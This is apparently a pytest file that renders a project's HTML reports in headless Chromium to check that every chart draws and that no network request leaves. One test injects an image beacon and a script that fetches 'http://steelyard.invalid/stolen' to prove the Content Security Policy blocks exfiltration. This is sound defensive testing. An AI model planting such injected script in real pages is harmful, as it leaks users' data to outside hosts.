"""The page in a real browser: everything is drawn, nothing complains, nothing leaves."""

from __future__ import annotations

import re
import shutil
import socketserver
import subprocess
import threading
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from steelyard.rare_events import TSB, simulate
from steelyard.rare_events.backtest import backtest, evaluate
from steelyard.report.backtest.charts import figures as backtest_figures
from steelyard.report.backtest.page import write_backtest
from steelyard.report.charts import figures
from steelyard.report.page import write_report
from steelyard.study.result import StudyResult

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = [pytest.mark.browser, pytest.mark.skipif(BROWSER is None, reason="no Chromium found")]


class Recorder(socketserver.ThreadingTCPServer):
    """A proxy that answers nothing and remembers what was asked for."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[str] = []
        recorder = self

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                recorder.asked.append(self.rfile.readline().decode(errors="replace"))

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture
def proxy() -> Iterator[Recorder]:
    with Recorder() as recorder:
        thread = threading.Thread(target=recorder.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield recorder
        recorder.shutdown()
        thread.join()


def browse(path: Path, proxy: Recorder, profile: Path, *flags: str) -> tuple[str, list[str]]:
    """Open a page and return its document and the lines of its console."""
    assert BROWSER is not None
    run = subprocess.run(
        [
            BROWSER,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            f"--user-data-dir={profile}",
            f"--proxy-server=http://127.0.0.1:{proxy.server_address[1]}",
            "--virtual-time-budget=8000",
            "--enable-logging=stderr",
            "--dump-dom",
            *flags,
            path.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    return run.stdout, [line for line in run.stderr.splitlines() if "CONSOLE" in line]


class SvgCounter(HTMLParser):
    """Counts the charts that stand in a document; names in scripts and attributes don't count."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.count = 0
        self.feed(document)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.count += tag == "svg"


@pytest.mark.parametrize(
    "flags", [(), ("--window-size=400,800",), ("--blink-settings=preferredColorScheme=0",)]
)
def test_every_chart_is_drawn_and_nothing_complains(
    result: StudyResult, tmp_path: Path, proxy: Recorder, flags: tuple[str, ...]
) -> None:
    document, console = browse(
        write_report(result, tmp_path / "report.html"), proxy, tmp_path / "profile", *flags
    )
    assert console == []
    assert SvgCounter(document).count == len(figures(result))
    assert not re.search(r"""could not be drawn \([^"]""", document)


def test_odd_results_are_drawn_too(odd_result: StudyResult, tmp_path: Path, proxy: Recorder) -> None:
    document, console = browse(
        write_report(odd_result, tmp_path / "report.html"), proxy, tmp_path / "profile"
    )
    assert console == []
    assert SvgCounter(document).count == len(figures(odd_result))


@pytest.mark.parametrize("flags", [(), ("--window-size=400,800",)])
def test_a_backtest_is_drawn_too(tmp_path: Path, proxy: Recorder, flags: tuple[str, ...]) -> None:
    known = simulate(steps=900, seed=0)
    found = backtest(known.series, {"</b>tsb": TSB(horizon=2)}, horizon=2, folds=2)
    evaluation = evaluate(found, repetitions=20)
    page = write_backtest(found, evaluation, tmp_path / "backtest.html")
    document, console = browse(page, proxy, tmp_path / "profile", *flags)
    assert console == []
    assert SvgCounter(document).count == len(backtest_figures(found, evaluation)) == 6
    assert not re.search(r"""could not be drawn \([^"]""", document)


def test_nothing_leaves_even_if_something_got_in(
    result: StudyResult, tmp_path: Path, proxy: Recorder
) -> None:
    page = write_report(result, tmp_path / "report.html")
    intruder = '<img src="http://steelyard.invalid/pixel"><script>fetch("http://steelyard.invalid/stolen")</script></main>'
    text = page.read_text(encoding="utf-8").replace("</main>", intruder, 1)
    page.write_text(text, encoding="utf-8")
    _, console = browse(page, proxy, tmp_path / "profile")
    assert len([line for line in console if "Content Security Policy" in line]) >= 2
    assert not [line for line in proxy.asked if "steelyard.invalid" in line]

    page.write_text(text.replace('http-equiv="Content-Security-Policy"', ""), encoding="utf-8")
    browse(page, proxy, tmp_path / "profile")
    assert [line for line in proxy.asked if "steelyard.invalid" in line], "the proxy would have seen it"
